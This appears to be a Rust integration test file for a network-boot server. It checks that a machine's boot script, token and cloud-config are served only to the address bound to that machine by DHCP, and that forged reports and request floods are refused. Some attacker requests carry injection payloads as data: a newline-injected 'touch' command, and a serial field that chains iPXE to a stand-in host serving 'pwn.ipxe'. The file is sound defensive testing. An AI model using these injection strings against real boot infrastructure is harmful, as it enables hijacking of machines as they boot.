//! The binding rule on loopback: a machine leases 127.1.0.x through a
//! relayed DHCP exchange and then talks HTTP *from* that address (any
//! 127.0.0.0/8 address is ours to bind), while the attacker talks from
//! 127.0.0.1, which is bound to nothing. Each attack the issue found is run
//! as written and must fail; the same flow from the machine's own address
//! must still work.

use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

use dhcproto::v4::{DhcpOption, MessageType};
use serde_json::Value;

use crate::common::api::Api;
use crate::common::dhcp_client::{message, msg_type, with, Client, Relay};
use crate::common::TestServer;
use crate::process::Server;

const RELAY: Ipv4Addr = Ipv4Addr::new(127, 1, 0, 1);
const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 1));
const VICTIM: [u8; 6] = [0x52, 0x54, 0x00, 0xbb, 0x00, 0x01];
const OTHER: [u8; 6] = [0x52, 0x54, 0x00, 0xbb, 0x00, 0x02];

pub(crate) fn mac_text(m: [u8; 6]) -> String {
    m.iter()
        .map(|b| format!("{b:02x}"))
        .collect::<Vec<_>>()
        .join(":")
}

/// DISCOVER, REQUEST through `relay`: the address ironboot leased to `m`
/// (`None` when there was no offer or no ACK).
pub(crate) async fn lease(relay: &Relay, m: [u8; 6], xid: u32) -> Option<Ipv4Addr> {
    let giaddr = relay.giaddr;
    let offer = relay
        .exchange(&message(
            Client::Ipxe,
            MessageType::Discover,
            m,
            xid,
            giaddr,
        ))
        .await?;
    let ip = offer.yiaddr();
    let req = with(
        with(
            message(Client::Ipxe, MessageType::Request, m, xid + 1, giaddr),
            DhcpOption::RequestedIpAddress(ip),
        ),
        DhcpOption::ServerIdentifier(Ipv4Addr::LOCALHOST),
    );
    let ack = relay.exchange(&req).await?;
    (msg_type(&ack) == Some(MessageType::Ack)).then_some(ip)
}

/// An HTTP client whose requests come from `from`.
pub(crate) fn client(from: IpAddr) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(from)
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap()
}

pub(crate) async fn get(c: &reqwest::Client, url: &str) -> (u16, String) {
    let r = c.get(url).send().await.unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

async fn post(c: &reqwest::Client, url: &str, body: impl Into<reqwest::Body>) -> u16 {
    c.post(url)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

/// The per-boot seed URL in a script (`s=<seed>/`), and its token.
fn seed(script: &str) -> Option<(String, String)> {
    let at = script.find("s=http://")? + 2;
    let url: String = script[at..]
        .chars()
        .take_while(|c| !c.is_whitespace())
        .collect();
    let token = url.trim_end_matches('/').rsplit('/').next()?.to_string();
    Some((url, token))
}

/// The machine as the API shows it, when the API knows it.
async fn machine(api: &Api, m: [u8; 6]) -> Option<Value> {
    let path = format!("/api/v1/machines/{}", mac_text(m));
    let (status, body) = api.call(reqwest::Method::GET, &path, None).await;
    (status == 200).then_some(body)
}

/// A live OS image: kernel, initrd, imported as stream `live` gen 1 and the
/// default group pointed at it.
async fn import_live(api: &Api) {
    let generation = api
        .import("live", &[1u8; 4096], &[2u8; 4096], "console=ttyS0")
        .await;
    api.point("default", "live", generation).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_the_bound_address_acts_for_a_machine() {
    let server = TestServer::full_bound("").await;
    let api = Api::new(&server);
    import_live(&api).await;
    let base = format!("http://{}", server.bound.http);
    let relay = Relay::new(RELAY, server.dhcp()).await;
    let victim_ip = lease(&relay, VICTIM, 0x7100).await.expect("victim leased");
    let victim = client(IpAddr::V4(victim_ip));
    let attacker = client(ATTACKER);
    let vmac = mac_text(VICTIM);

    // The victim is known from its DHCP exchange; what the API shows of it
    // now must not change by anything the attacker does.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let known = machine(&api, VICTIM).await;
    // The attacker asks for the victim's script: told it is not bound, no
    // token, and nothing about the victim changes.
    for query in [
        "",
        "?buildarch=x%0Atouch%20/tmp/P%0A%23",
        "?serial=x%20;%20chain%20http://198.51.100.66/pwn.ipxe%20;%20%23",
    ] {
        let (status, script) = get(&attacker, &format!("{base}/boot/{vmac}.ipxe{query}")).await;
        assert_eq!(status, 200, "a booting machine always gets a script");
        assert!(script.contains("is not bound to"), "{script}");
        assert!(
            seed(&script).is_none(),
            "no token for the attacker:\n{script}"
        );
    }
    assert_eq!(
        machine(&api, VICTIM).await,
        known,
        "nothing changed by an unbound address"
    );
    assert!(server.counter("boot_unbound").await >= 3);

    // The victim, from its own address, boots as before; its hostile
    // "architecture" is dropped, not stored.
    let (status, script) = get(
        &victim,
        &format!("{base}/boot/{vmac}.ipxe?buildarch=x%0Atouch%20/tmp/P%0A%23&serial=SN%2042"),
    )
    .await;
    assert_eq!(status, 200);
    let (seed_url, token) = seed(&script).expect("the bound machine gets its token");
    let m = machine(&api, VICTIM)
        .await
        .expect("registered by its own request");
    assert_eq!(m["ip"], victim_ip.to_string());
    assert_eq!(m["serial"], "SN 42");
    assert!(
        m["cpu"].is_null() || m["cpu"] != "x\ntouch /tmp/P\n#",
        "{m}"
    );

    // Its config and its token, from the attacker's address: refused.
    let (status, body) = get(&attacker, &format!("{seed_url}user-data")).await;
    assert_eq!(status, 403, "{body}");
    assert!(!body.contains("#cloud-config"));
    assert_eq!(
        post(
            &attacker,
            &format!("{base}/phone-home/{token}"),
            "checks=passed"
        )
        .await,
        403,
        "a forged confirmation with the victim's token"
    );
    assert_eq!(
        post(
            &attacker,
            &format!("{base}/boot-failure/{token}"),
            "reason=verity"
        )
        .await,
        403,
        "a forged failure report with the victim's token"
    );
    // From the victim's address: served, and the confirmation counts.
    let (status, user) = get(&victim, &format!("{seed_url}user-data")).await;
    assert_eq!(status, 200);
    assert!(user.starts_with("#cloud-config"), "{user}");

    // Two more unauthenticated script requests for the victim (the
    // rollout sabotage): its open boot is not counted as failed, and its
    // address is not rewritten.
    for _ in 0..2 {
        get(&attacker, &format!("{base}/boot/{vmac}.ipxe")).await;
    }
    let m = machine(&api, VICTIM).await.unwrap();
    assert_eq!(m["recent_boots"].as_array().unwrap().len(), 1, "{m}");
    assert_eq!(m["recent_boots"][0]["state"], "served", "{m}");
    assert_eq!(m["ip"], victim_ip.to_string());

    assert_eq!(
        post(
            &victim,
            &format!("{base}/phone-home/{token}"),
            "checks=passed"
        )
        .await,
        200
    );
    let m = machine(&api, VICTIM).await.unwrap();
    assert_eq!(m["current"]["generation"], 1, "{m}");

    // Another leased machine cannot act for the victim either: its address
    // is bound, but to itself.
    let other_ip = lease(&relay, OTHER, 0x7200).await.expect("other leased");
    let other = client(IpAddr::V4(other_ip));
    let (_, script) = get(&other, &format!("{base}/boot/{vmac}.ipxe")).await;
    assert!(seed(&script).is_none(), "{script}");
    server.stop().await;
}

/// What a machine's requests suggest about its kind is a claim: a ZTP
/// script fetched from a machine's own address makes it a switch only until
/// an operator says what it is. After `kind: server` from the API, the same
/// request (from the bound address, so it is served) leaves it a server, and
/// so does a restart.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_operator_owns_a_machines_kind() {
    let server = TestServer::full_bound("").await;
    let api = Api::new(&server);
    let base = format!("http://{}", server.bound.http);
    let relay = Relay::new(RELAY, server.dhcp()).await;
    let ztp = |ip: Ipv4Addr, m: [u8; 6]| {
        let c = client(IpAddr::V4(ip));
        let url = format!("{base}/ztp/{}/cumulus.sh", mac_text(m));
        async move { get(&c, &url).await.0 }
    };
    let kind = |m: [u8; 6]| {
        let api = &api;
        async move { machine(api, m).await.expect("known")["kind"].clone() }
    };

    // Unclaimed by the operator: the request makes it a switch.
    let other_ip = lease(&relay, OTHER, 0x7300).await.expect("other leased");
    assert_eq!(ztp(other_ip, OTHER).await, 200);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(kind(OTHER).await, "switch");

    // Declared a server: the same request no longer changes that.
    let ip = lease(&relay, VICTIM, 0x7400).await.expect("victim leased");
    tokio::time::sleep(Duration::from_millis(200)).await;
    let r = reqwest::Client::new()
        .patch(format!("{base}/api/v1/machines/{}", mac_text(VICTIM)))
        .bearer_auth(&api.token)
        .json(&serde_json::json!({ "kind": "server" }))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "{}", r.text().await.unwrap());
    assert_eq!(ztp(ip, VICTIM).await, 200);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(kind(VICTIM).await, "server");

    // After a restart (memory loaded from the database) too.
    let dir = server.stop().await;
    let text = crate::common::full_config_with(dir.path(), "", crate::common::BINDING_REQUIRED);
    let server = TestServer::start(&text, dir).await;
    let api = Api::new(&server);
    let base = format!("http://{}", server.bound.http);
    let c = client(IpAddr::V4(ip));
    let (status, _) = get(&c, &format!("{base}/ztp/{}/cumulus.sh", mac_text(VICTIM))).await;
    assert_eq!(status, 200);
    tokio::time::sleep(Duration::from_millis(300)).await;
    let m = machine(&api, VICTIM).await.expect("known");
    assert_eq!(m["kind"], "server", "{m}");
    server.stop().await;
}

/// Unbounded growth from unauthenticated requests: 2,000 script requests
/// for random MACs with a 60 kB serial, and 50 phone-homes of 2 MiB to a
/// bogus token, leave no machine, no event and no database growth beyond
/// noise.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn floods_from_unbound_addresses_store_nothing() {
    let server = TestServer::full_bound("").await;
    let base = format!("http://{}", server.bound.http);
    let attacker = client(ATTACKER);
    let before = TestServer::db_bytes(server.dir.path()).await;
    let serial = "s".repeat(60_000);
    for i in 0..2000u32 {
        let mac = format!(
            "52:54:01:{:02x}:{:02x}:{:02x}",
            i >> 16,
            (i >> 8) & 0xff,
            i & 0xff
        );
        let (status, _) = get(
            &attacker,
            &format!("{base}/boot/{mac}.ipxe?serial={serial}"),
        )
        .await;
        assert_eq!(status, 200);
    }
    let body = vec![b'a'; 2 * 1024 * 1024];
    for _ in 0..50 {
        // 413 before the body is read; the server may close the connection
        // while the client is still sending, which the client sees as an
        // error: both are a refusal.
        let sent = attacker
            .post(format!("{base}/phone-home/{}", "0".repeat(64)))
            .body(body.clone())
            .send()
            .await;
        if let Ok(r) = sent {
            assert!(matches!(r.status().as_u16(), 413 | 403), "{}", r.status());
        }
    }
    assert!(server.counter("boot_unbound").await >= 2000);
    let dir = server.stop().await;
    let db = TestServer::db(dir.path()).await;
    let (machines,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM machines")
        .fetch_one(&db)
        .await
        .unwrap();
    let (events,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM events")
        .fetch_one(&db)
        .await
        .unwrap();
    assert_eq!((machines, events), (0, 0));
    let after = TestServer::db_bytes(dir.path()).await;
    eprintln!("hostile: database {before} -> {after} bytes after the floods");
    assert!(after < before + 1024 * 1024, "{before} -> {after}");
}

/// A script's token survives a kill -9 right after the script was sent:
/// the boot row was committed first, so the machine's confirmation after
/// the restart is accepted (address bound by a reservation, which is the
/// operator's and survives anything).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_the_machine_holds_survives_kill_9() {
    let dir = tempfile::TempDir::new().unwrap();
    let (config, base) = crate::process::bound_config(dir.path()).await;
    let base = &base;
    let mut server = Server::start(&config).healthy(base).await;
    import_live(&Api::at(base, dir.path())).await;
    // The reservation in the test config: 52:54:00:00:00:01 at 127.1.0.50.
    let machine = client("127.1.0.50".parse().unwrap());
    let mut confirmed = 0;
    for round in 0..3 {
        let (_, script) = get(&machine, &format!("{base}/boot/52:54:00:00:00:01.ipxe")).await;
        let (_, token) = seed(&script).unwrap_or_else(|| panic!("round {round}: {script}"));
        drop(server); // SIGKILL, reaped
        server = Server::start(&config).healthy(base).await;
        let status = post(&machine, &format!("{base}/phone-home/{token}"), "x=1").await;
        assert_eq!(status, 200, "round {round}: the token survived the kill");
        confirmed += 1;
    }
    assert_eq!(confirmed, 3);
}
